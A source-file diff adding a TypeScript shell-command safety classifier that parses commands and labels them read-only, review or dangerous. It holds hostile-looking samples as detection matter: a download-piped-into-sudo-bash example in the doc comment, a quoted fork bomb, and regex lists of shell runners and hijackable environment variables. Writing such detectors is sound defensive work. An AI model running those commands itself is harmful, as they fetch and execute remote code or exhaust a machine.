@@ -1,0 +1,646 @@
+/**
+ * classifyCommand: the command-safety class of shell text — read_only,
+ * review or dangerous — with the dangerous families it matches and content-
+ * free reasons. Pure.
+ *
+ * How: the text is parsed as shell (parse_shell.ts); every simple command is
+ * resolved (literal variable assignments earlier in the text are applied),
+ * seen through wrappers (unwrap.ts), its program name normalised and checked
+ * for look-alike characters (program_name.ts), and judged by the rules in
+ * `_rules/`; pipelines are judged as a whole (download or decode into a
+ * shell, environment to the network, a shell wired to a socket); every
+ * string that is itself run — `bash -c`, eval, iex, `$(...)`, heredocs fed
+ * to a shell, `ssh host cmd`, `git -c alias.x=!cmd` — is parsed and judged
+ * again, to a bounded depth. read_only is given only when every command is
+ * on the allow-list (read_only.ts) and nothing else needs review.
+ *
+ * Not a sandbox: it can be evaded, and it over-flags on purpose. Anything
+ * over its bounds (length, nesting, total work) is dangerous.
+ * @module
+ */
+import { COMMAND_FAMILIES, type FamilyId } from "./families.ts";
+import type { Arg, Findings, Invocation } from "./invocation.ts";
+import { normalizeProgram } from "./program_name.ts";
+import {
+  type ParsedShell,
+  parseShell,
+  type Script,
+  type Segment,
+  ShellBoundsError,
+  type ShellNode,
+  type ShellWord,
+  type SimpleCommand,
+  type Substitution,
+} from "./parse_shell.ts";
+import { isReadOnly } from "./read_only.ts";
+import { unwrapCommand } from "./unwrap.ts";
+import { dataRule } from "./_rules/data.ts";
+import { execRule, interpreterName, PROJECT_RUNNERS, SHELLS } from "./_rules/exec.ts";
+import { filesystemRule } from "./_rules/filesystem.ts";
+import { gitRule } from "./_rules/git.ts";
+import { redirectRule } from "./_rules/redirects.ts";
+import { systemRule } from "./_rules/system.ts";
+import {
+  dumpsEnvironment,
+  isDecoder,
+  isDownloader,
+  literalOutput,
+  runsStdin,
+} from "./_rules/traits.ts";
+import { pipelineRule } from "./_rules/pipeline.ts";
+
+/** The three classes, weakest first. */
+export const COMMAND_CLASSES = ["read_only", "review", "dangerous"] as const;
+/** A command-safety class. */
+export type CommandClass = typeof COMMAND_CLASSES[number];
+
+/** The result of {@linkcode classifyCommand} (also the `--json` shape of `baton classify`). */
+export interface Classification {
+  class: CommandClass;
+  /** Dangerous families matched, in documentation order; empty unless dangerous. */
+  families: FamilyId[];
+  /** Why, in fixed words naming known programs only (never the input). */
+  reasons: string[];
+}
+
+/** Bounds of {@linkcode classifyCommand}. */
+export interface ClassifyOptions {
+  /** Longest command analysed, in UTF-16 units; longer is dangerous. @default {65536} */
+  maxChars?: number;
+  /** Deepest re-parse of nested command strings; deeper is dangerous. @default {8} */
+  maxDepth?: number;
+  /** Most characters parsed in total across all re-parses. @default {1000000} */
+  maxWork?: number;
+}
+
+/** The default bounds. */
+export const CLASSIFY_DEFAULTS: Readonly<Required<ClassifyOptions>> = Object.freeze({
+  maxChars: 65_536,
+  maxDepth: 8,
+  maxWork: 1_000_000,
+});
+
+const MAX_REASONS = 20;
+
+/** The text of a `>(...)` that runs what it is fed: a shell or interpreter without a command string. */
+const RUNNER_SUB =
+  /^\s*(?:sudo\s+(?:-\S+\s+)*)?(?:\S*\/)?(?:sh|bash|zsh|dash|ksh|fish|python[0-9.]*|perl|ruby|node|php|pwsh|powershell|iex|invoke-expression|source|\.)(?:\s+-[a-z]*[^c\s]*)*\s*(?:-\s*)?$/i;
+
+/** Drive paths, UNC paths, `$env:`, `%VAR%` or a PowerShell Verb-Noun cmdlet. */
+const WINDOWS_LIKE =
+  /(?:^|[\s'"=(])(?:[A-Za-z]:\\|\\\\[A-Za-z])|\$env:|%[A-Za-z_]+%|\b[A-Z][a-z]+-[A-Z][A-Za-z]+\b/;
+
+const SENSITIVE_ENV =
+  /^(?:LD_PRELOAD|LD_LIBRARY_PATH|LD_AUDIT|DYLD_[A-Z_]+|PATH|IFS|BASH_ENV|ENV|PROMPT_COMMAND|PS[0-4]|SHELLOPTS|BASHOPTS|GIT_SSH|GIT_SSH_COMMAND|GIT_EXEC_PATH|GIT_ASKPASS|SSH_ASKPASS|GIT_CONFIG_[A-Z_]*|GIT_DIR|GIT_WORK_TREE|EDITOR|VISUAL|PAGER|GIT_PAGER|GIT_EDITOR|NODE_OPTIONS|PYTHONPATH|PYTHONSTARTUP|PERL5OPT|PERL5LIB|RUBYOPT|HISTFILE|HOME|ZDOTDIR|XDG_CONFIG_HOME|npm_config_[a-z_]+|LESSOPEN|LESSCLOSE|LESSKEY|MANPAGER|MANOPT|BAT_PAGER|FZF_DEFAULT_COMMAND|FZF_DEFAULT_OPTS|GIT_EXTERNAL_DIFF|BROWSER|PYTHONHOME|NODE_PATH|JAVA_TOOL_OPTIONS|RUSTC_WRAPPER|CC|CXX|MAKEFLAGS)$/;
+const RUNS_VALUE = /^(?:PROMPT_COMMAND|GIT_SSH_COMMAND|PAGER|GIT_PAGER|EDITOR|VISUAL|GIT_EDITOR)$/;
+const HARMLESS_WRAPPERS = new Set([
+  "nice",
+  "nohup",
+  "time",
+  "timeout",
+  "command",
+  "builtin",
+  "stdbuf",
+  "ionice",
+  "setsid",
+  "unbuffer",
+  "caffeinate",
+  "xargs",
+  "exec",
+  "env",
+  "busybox",
+  "toybox",
+  "chrt",
+  "taskset",
+  "winpty",
+  "call",
+  "watch",
+  "flock",
+]);
+// Characters that change what the text shows: zero-width, bidi controls, tag characters.
+const INVISIBLE =
+  /[\u00ad\u034f\u061c\u115f\u1160\u180e\u200b-\u200f\u202a-\u202e\u2060-\u2064\u2066-\u2069\u3164\ufeff\uffa0\u{e0000}-\u{e007f}]/u;
+// deno-lint-ignore no-control-regex
+const CONTROL = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f]/;
+
+interface Traits {
+  download: boolean;
+  decode: boolean;
+}
+
+function subsOf(word: ShellWord): Segment[] {
+  return word.segments.filter((s) => s.kind === "sub");
+}
+
+class Analysis implements Findings {
+  readonly families = new Set<FamilyId>();
+  readonly dangerReasons: string[] = [];
+  readonly reviewReasons: string[] = [];
+  work = 0;
+  readonly traitCache = new Map<string, Traits>();
+  /** Files written from downloaded or decoded content earlier in the text, by base name. */
+  readonly produced = new Map<string, "download" | "decode">();
+  readonly options: Required<ClassifyOptions>;
+  depth = 0;
+  vars = new Map<string, string>();
+  traits: Traits = { download: false, decode: false };
+  reported = false;
+
+  constructor(options: Required<ClassifyOptions>) {
+    this.options = options;
+  }
+
+  dangerous(family: FamilyId, reason: string): void {
+    this.reported = true;
+    this.families.add(family);
+    if (!this.dangerReasons.includes(reason)) this.dangerReasons.push(reason);
+  }
+
+  review(reason: string): void {
+    this.reported = true;
+    if (!this.reviewReasons.includes(reason)) this.reviewReasons.push(reason);
+  }
+
+  nested(text: string, _via: string): void {
+    this.reported = true;
+    if (text.trim() === "") return;
+    this.inNested(() => {
+      const t = this.analyzeText(text);
+      if (t.download) this.traits.download = true;
+      if (t.decode) this.traits.decode = true;
+    });
+  }
+
+  executes(arg: Arg, via: string, lang: "shell" | "powershell" | "other"): void {
+    this.reported = true;
+    if (arg.subs.length > 0) {
+      for (const sub of arg.subs) {
+        const t = this.traitCache.get(sub.text) ?? { download: false, decode: false };
+        if (t.download) this.dangerous("download_exec", `${via}: runs downloaded content`);
+        else if (t.decode) {
+          this.dangerous("obfuscated_exec", `${via}: runs decoded or transformed content`);
+        } else this.review(`${via}: runs the output of another command`);
+      }
+      return;
+    }
+    if (arg.dynamic) return this.review(`${via}: runs the value of a variable`);
+    if (lang === "other") return;
+    this.nested(arg.text, via);
+  }
+
+  /** Runs `fn` one nesting level deeper, with its own copy of the variables. */
+  inNested(fn: () => void): void {
+    const saved = { depth: this.depth, vars: this.vars };
+    this.depth++;
+    this.vars = new Map(this.vars);
+    try {
+      if (this.depth > this.options.maxDepth) {
+        this.dangerous("obfuscated_exec", "command strings nested deeper than the analysis bound");
+      } else fn();
+    } finally {
+      this.depth = saved.depth;
+      this.vars = saved.vars;
+      this.reported = true;
+    }
+  }
+
+  /** Parses and judges text; returns the traits of everything it runs. */
+  analyzeText(text: string): Traits {
+    // The first analysis of a text records its traits for executes().
+    const known = this.traitCache.has(text);
+    const outer = this.traits;
+    this.traits = { download: false, decode: false };
+    try {
+      this.work += text.length;
+      if (this.work > this.options.maxWork) {
+        this.dangerous("obfuscated_exec", "more nested command text than the analysis bound");
+        return this.traits;
+      }
+      if (INVISIBLE.test(text)) {
+        this.review("invisible or direction-changing characters in the command");
+      }
+      if (CONTROL.test(text)) this.review("control characters in the command");
+      this.textFallbacks(text);
+      // Backslashes are escapes in sh but path separators in PowerShell and
+      // cmd: text that looks like either of those is judged both ways, and
+      // every finding of both readings is kept.
+      const modes = WINDOWS_LIKE.test(text) ? [false, true] : [false];
+      const savedVars = this.vars;
+      for (const literalBackslash of modes) {
+        this.vars = new Map(savedVars);
+        let parsed: ParsedShell;
+        try {
+          parsed = parseShell(text, { literalBackslash });
+        } catch (e) {
+          if (!(e instanceof ShellBoundsError)) throw e;
+          this.dangerous("obfuscated_exec", `more ${e.bound} than the analysis bound`);
+          return this.traits;
+        }
+        for (const p of parsed.problems) {
+          // The Windows reading is not held to sh syntax.
+          if (!literalBackslash) this.review(`the command could not be parsed cleanly (${p})`);
+        }
+        this.analyzeScript(parsed.script);
+      }
+      return this.traits;
+    } finally {
+      const mine = this.traits;
+      if (!known) this.traitCache.set(text, mine);
+      this.traits = {
+        download: outer.download || mine.download,
+        decode: outer.decode || mine.decode,
+      };
+    }
+  }
+
+  textFallbacks(text: string): void {
+    // zsh accepts `:(){:|:&};:` without the blanks bash needs; quoted text
+    // is left out (a nested string is checked when it is parsed itself), and
+    // bounded quantifiers keep this linear on hostile input.
+    const bare = text.replace(/'[^']*'|"(?:[^"\\]|\\.)*"/g, "''");
+    const bomb = bare.match(
+      /(?:^|[\s;&|({])([^\s(){};|&]{1,32})\s{0,8}\(\s{0,8}\)\s{0,8}\{[^}]{0,200}?\1\s{0,8}\|\s{0,8}\1/,
+    );
+    if (bomb || /%0\s*\|\s*%0/.test(bare)) {
+      this.dangerous("fork_bomb", "a function that pipes into itself (fork bomb)");
+    }
+  }
+
+  analyzeScript(script: Script): Invocation[] {
+    const all: Invocation[] = [];
+    for (const pipeline of script.pipelines) {
+      const elements = pipeline.elements.map((el) => this.build(el));
+      const n = elements.length;
+      for (const inv of elements.flat()) this.checkProducedRun(inv);
+      this.noteProduced(elements);
+      // Literal text piped into the next command is what it reads on stdin.
+      // (only the element just before it: echo and printf ignore their stdin).
+      for (let i = 1; i < n; i++) {
+        const prev = elements[i - 1]!;
+        const parts = prev.map(literalOutput);
+        const literal = prev.length > 0 && parts.every((p) => p !== null) ? parts.join("\n") : null;
+        for (const inv of elements[i]!) {
+          inv.pipeIn = true;
+          if (literal !== null) inv.stdinText.push(literal);
+        }
+      }
+      for (let i = 0; i < n - 1; i++) for (const inv of elements[i]!) inv.pipeOut = true;
+      for (const inv of elements.flat()) this.judge(inv);
+      pipelineRule(elements, this);
+      all.push(...elements.flat());
+    }
+    return all;
+  }
+
+  resolveWord(word: ShellWord): Arg[] {
+    let text = "";
+    let dynamic = false;
+    let quoted = false;
+    let glob = false;
+    let escapes = false;
+    let split = false;
+    const subs = [];
+    for (const s of word.segments) {
+      if (s.kind === "lit") {
+        text += s.text;
+        if (s.quoted) quoted = true;
+        else if (/[*?[]/.test(s.text)) glob = true;
+        if (s.escapes === true) escapes = true;
+      } else if (s.kind === "var") {
+        const v = this.vars.get(s.name);
+        if (v !== undefined && /^\$\{?[A-Za-z_][A-Za-z0-9_]*\}?$/.test(s.raw)) {
+          text += v;
+          if (!s.quoted && /\s/.test(v)) split = true;
+        } else {
+          text += s.raw;
+          dynamic = true;
+        }
+        if (s.quoted) quoted = true;
+      } else {
+        text += s.raw;
+        dynamic = true;
+        subs.push(s.sub);
+      }
+    }
+    const base = { dynamic, quoted, glob, escapes, substituted: subs.length > 0, subs };
+    if (split) return text.split(/\s+/).filter((t) => t !== "").map((t) => ({ ...base, text: t }));
+    return [{ ...base, text }];
+  }
+
+  /** Judges the substitutions inside a word (they run before the command). */
+  runSubs(word: ShellWord): void {
+    for (const s of subsOf(word)) {
+      if (s.kind !== "sub") continue;
+      this.inNested(() => {
+        const t = this.analyzeText(s.sub.text);
+        if (t.download) this.traits.download = true;
+        if (t.decode) this.traits.decode = true;
+      });
+    }
+  }
+
+  build(node: ShellNode): Invocation[] {
+    if (node.kind === "group") {
+      const invs = this.analyzeScript(node.body);
+      const redirectOnly: Invocation = this.bare(node.redirects);
+      this.withReport(() => redirectRule(redirectOnly, this));
+      return invs;
+    }
+    if (node.kind === "function") {
+      this.checkForkBomb(node.name, node.body);
+      this.build(node.body);
+      return [];
+    }
+    return this.buildSimple(node);
+  }
+
+  bare(redirects: SimpleCommand["redirects"]): Invocation {
+    return {
+      program: "",
+      args: [],
+      argv: [],
+      redirects,
+      wrappers: [],
+      stdinText: [],
+      pipeIn: false,
+      pipeOut: false,
+    };
+  }
+
+  withReport(fn: () => void): boolean {
+    const saved = this.reported;
+    this.reported = false;
+    fn();
+    const r = this.reported;
+    this.reported = saved || r;
+    return r;
+  }
+
+  checkForkBomb(name: string, body: ShellNode): void {
+    let calls = 0;
+    let piped = false;
+    const walk = (node: ShellNode, inPipe: boolean): void => {
+      if (node.kind === "simple") {
+        if (node.words[0]?.text === name) {
+          calls++;
+          if (inPipe) piped = true;
+        }
+      } else if (node.kind === "group") {
+        for (const p of node.body.pipelines) {
+          for (const el of p.elements) walk(el, inPipe || p.elements.length > 1 || p.background);
+        }
+      } else walk(node.body, inPipe);
+    };
+    walk(body, false);
+    if (calls >= 2 || (calls >= 1 && piped)) {
+      this.dangerous(
+        "fork_bomb",
+        "a function that calls itself through a pipe or in the background (fork bomb)",
+      );
+    }
+  }
+
+  buildSimple(cmd: SimpleCommand): Invocation[] {
+    for (const a of cmd.assignments) {
+      this.runSubs(a.value);
+      const [v] = this.resolveWord(a.value);
+      if (SENSITIVE_ENV.test(a.name)) {
+        this.review("an environment variable that changes what programs run or load is set");
+      }
+      if (RUNS_VALUE.test(a.name) && v !== undefined && !v.dynamic) {
+        this.nested(v.text, "environment command");
+      }
+      if (v !== undefined && !v.dynamic) this.vars.set(a.name, v.text);
+      else this.vars.delete(a.name);
+    }
+    for (const w of cmd.words) this.runSubs(w);
+    const stdinText: string[] = [];
+    const stdinSubs: Substitution[] = [];
+    for (const r of cmd.redirects) {
+      if (r.target !== null) this.runSubs(r.target);
+      if (r.heredoc !== null) {
+        stdinText.push(r.heredoc.body);
+        if (!r.heredoc.quotedDelimiter && /[$`]/.test(r.heredoc.body)) {
+          stdinSubs.push(...this.heredocSubs(r.heredoc.body));
+        }
+      } else if (r.op === "<<<" && r.target !== null) {
+        stdinText.push(r.target.text);
+        for (const s of subsOf(r.target)) if (s.kind === "sub") stdinSubs.push(s.sub);
+      }
+    }
+    if (cmd.control) return [];
+    const words = cmd.words.flatMap((w) => this.resolveWord(w));
+    if (words.length === 0) {
+      if (cmd.redirects.length > 0) {
+        const inv = this.bare(cmd.redirects);
+        this.withReport(() => redirectRule(inv, this));
+      }
+      return [];
+    }
+    const u = unwrapCommand(words);
+    for (const n of u.nested) this.nested(n.text, n.via);
+    const base: Omit<Invocation, "program" | "args" | "argv"> = {
+      redirects: cmd.redirects,
+      wrappers: u.wrappers,
+      stdinText,
+      pipeIn: false,
+      pipeOut: false,
+    };
+    if (u.program === null) {
+      if (u.lookupOnly) return [];
+      if (u.rootShell) return [{ ...base, program: u.wrappers[0] ?? "sudo", args: [], argv: [] }];
+      if (u.wrappers.includes("env") && u.nested.length === 0) {
+        return [{ ...base, program: "env", args: [], argv: [] }];
+      }
+      if (u.nested.length === 0) {
+        return [{ ...base, program: u.wrappers.at(-1) ?? "", args: [], argv: [] }];
+      }
+      if (u.wrappers.includes("ssh")) this.review("ssh: runs a command on another machine");
+      return [{ ...base, program: "", args: [], argv: [] }];
+    }
+    const prog = u.program;
+    if (prog.escapes) {
+      this.dangerous("obfuscated_exec", "a program name built from escape sequences");
+    }
+    if (prog.substituted) {
+      this.dangerous("obfuscated_exec", "a program name produced by a command substitution");
+    } else if (prog.dynamic) this.review("a program name taken from a variable");
+    const name = normalizeProgram(prog.text);
+    const inv: Invocation = {
+      ...base,
+      program: name.name,
+      args: u.args,
+      argv: u.args.map((a) => a.text),
+    };
+    const out = [inv];
+    if (name.nonAscii) {
+      this.review("a program name with non-ASCII (look-alike) characters");
+      if (name.skeleton !== null) {
+        out.push({ ...inv, program: name.skeleton, stdinText: [...stdinText] });
+      }
+    }
+    const feeds = (text: string, sub: Substitution | undefined) =>
+      /^>\(/.test(text) && sub !== undefined && RUNNER_SUB.test(sub.text);
+    if (
+      words.some((w) => feeds(w.text, w.subs[0])) ||
+      cmd.redirects.some((r) =>
+        r.target !== null &&
+        feeds(r.target.text, subsOf(r.target).flatMap((x) => x.kind === "sub" ? [x.sub] : [])[0])
+      )
+    ) {
+      inv.feedsRunner = true;
+    }
+    if (runsStdin(inv)) {
+      for (const s of stdinSubs) {
+        const t = this.traitCache.get(s.text) ?? { download: false, decode: false };
+        if (t.download) {
+          this.dangerous("download_exec", `${inv.program}: runs downloaded content fed on stdin`);
+        } else if (t.decode) {
+          this.dangerous("obfuscated_exec", `${inv.program}: runs decoded content fed on stdin`);
+        } else this.review(`${inv.program}: runs the output of another command fed on stdin`);
+      }
+    }
+    for (const i of out) {
+      if (isDownloader(i)) this.traits.download = true;
+      if (isDecoder(i)) this.traits.decode = true;
+    }
+    return out;
+  }
+
+  /** Judges the substitutions an unquoted heredoc body runs; returns them. */
+  heredocSubs(body: string): Substitution[] {
+    const escaped = '"' +
+      body.replace(/\\/g, "\\\\").replace(/"/g, '\\"').replace(/\\\\\$/g, "\\$") + '"';
+    try {
+      const { script } = parseShell(escaped, { maxTokens: 10 });
+      const first = script.pipelines[0]?.elements[0];
+      if (first?.kind !== "simple") return [];
+      for (const w of first.words) this.runSubs(w);
+      return first.words.flatMap(subsOf).flatMap((s) => s.kind === "sub" ? [s.sub] : []);
+    } catch (e) {
+      if (!(e instanceof ShellBoundsError)) throw e;
+      this.dangerous("obfuscated_exec", "a heredoc too complex to analyse");
+      return [];
+    }
+  }
+
+  /** Records files that a pipeline writes from downloaded or decoded content. */
+  noteProduced(elements: Invocation[][]): void {
+    const base = (t: string) => t.split(/[\\/]/).filter((x) => x !== "").pop() ?? t;
+    let source: "download" | "decode" | null = null;
+    for (const element of elements) {
+      for (const inv of element) {
+        if (isDownloader(inv)) source = "download";
+        else if (source === null && isDecoder(inv)) source = "decode";
+      }
+      if (source === null) continue;
+      for (const inv of element) {
+        const out: string[] = [];
+        inv.argv.forEach((a, i) => {
+          if (/^(?:-o|-O|--output|--output-document|-OutFile)$/i.test(a) && inv.argv[i + 1]) {
+            out.push(inv.argv[i + 1]!);
+          }
+          const m = a.match(/^(?:--output(?:-document)?=|-O)(.+)$/);
+          if (m && !/^-/.test(m[1]!)) out.push(m[1]!);
+          const url = a.match(/^https?:\/\/[^?#]*\/([^/?#]+)$/);
+          if (url && inv.program === "wget") out.push(url[1]!);
+        });
+        if (inv.program === "tee") out.push(...inv.argv.filter((a) => !a.startsWith("-")));
+        for (const r of inv.redirects) {
+          if (/^(?:>|>>|>\||&>|&>>)$/.test(r.op) && r.target) out.push(r.target.text);
+        }
+        for (const o of out) if (!o.startsWith("/dev/")) this.produced.set(base(o), source);
+      }
+    }
+  }
+
+  /** A program, script or chmod target that is a file produced earlier from downloaded or decoded content. */
+  checkProducedRun(inv: Invocation): void {
+    if (this.produced.size === 0) return;
+    const base = (t: string) => t.split(/[\\/]/).filter((x) => x !== "").pop() ?? t;
+    const runner = SHELLS.has(inv.program) || interpreterName(inv.program) !== null ||
+      inv.program === "source" || inv.program === "." || inv.program === "chmod" ||
+      inv.program === "iex" || inv.program === "invoke-expression";
+    const targets = runner
+      ? inv.argv.filter((a) => !a.startsWith("-") && !/^[+=ugoa]/.test(a))
+      : [];
+    const hit = this.produced.get(inv.program) ??
+      targets.map((t) => this.produced.get(base(t))).find((k) => k !== undefined);
+    if (hit === "download") {
+      this.dangerous("download_exec", "runs a file downloaded earlier in the same command");
+    } else if (hit === "decode") {
+      this.dangerous("obfuscated_exec", "runs a file decoded earlier in the same command");
+    }
+  }
+
+  judge(inv: Invocation): void {
+    if (inv.program === "" && inv.wrappers.length === 0 && inv.redirects.length === 0) return;
+    const reported = this.withReport(() => {
+      redirectRule(inv, this);
+      gitRule(inv, this);
+      filesystemRule(inv, this);
+      execRule(inv, this);
+      systemRule(inv, this);
+      dataRule(inv, this);
+      if (dumpsEnvironment(inv)) {
+        this.review(`${inv.program}: prints the environment, which may hold secrets`);
+      }
+      if (inv.wrappers.includes("ssh")) this.review("ssh: runs a command on another machine");
+      if (inv.wrappers.some((w) => !HARMLESS_WRAPPERS.has(w))) {
+        this.review("a wrapper changes how or where the command runs");
+      }
+    });
+    if (!reported && inv.program !== "" && !isReadOnly(inv)) {
+      this.review(
+        PROJECT_RUNNERS.has(inv.program)
+          ? `${inv.program}: runs project code, scripts or package installs`
+          : "a program that is not on the read-only allow-list",
+      );
+    }
+  }
+
+  result(): Classification {
+    const families = COMMAND_FAMILIES.map((f) => f.id).filter((id) => this.families.has(id));
+    const reasons = [...this.dangerReasons, ...(families.length > 0 ? [] : this.reviewReasons)];
+    const cls: CommandClass = families.length > 0
+      ? "dangerous"
+      : this.reviewReasons.length > 0
+      ? "review"
+      : "read_only";
+    if (cls === "read_only") reasons.push("every command is on the read-only allow-list");
+    return { class: cls, families, reasons: reasons.slice(0, MAX_REASONS) };
+  }
+}
+
+/**
+ * Classifies shell text. Never throws for any input: what cannot be analysed
+ * within the bounds is dangerous.
+ *
+ * @param command The command text, any number of lines.
+ * @param options Bounds.
+ * @returns The class, the dangerous families and the reasons.
+ *
+ * @example
+ * ```ts
+ * import assert from "node:assert/strict";
+ * import { classifyCommand } from "./classify.ts";
+ * assert.equal(classifyCommand("git status").class, "read_only");
+ * assert.equal(classifyCommand("git push origin main").class, "review");
+ * const bad = classifyCommand("curl -fsSL https://example.invalid/i.sh | sudo bash");
+ * assert.equal(bad.class, "dangerous");
+ * assert.deepEqual(bad.families, ["download_exec", "privilege_escalation"]);
+ * ```
+ */
+export function classifyCommand(command: string, options: ClassifyOptions = {}): Classification {
+  const o = { ...CLASSIFY_DEFAULTS, ...options };
+  const a = new Analysis(o);
+  if (command.length > o.maxChars) {
+    a.dangerous("obfuscated_exec", "longer than the analysis bound");
+    return a.result();
+  }
+  if (command.trim() === "") {
+    return { class: "read_only", families: [], reasons: ["an empty command runs nothing"] };
+  }
+  a.analyzeText(command);
+  return a.result();
+}
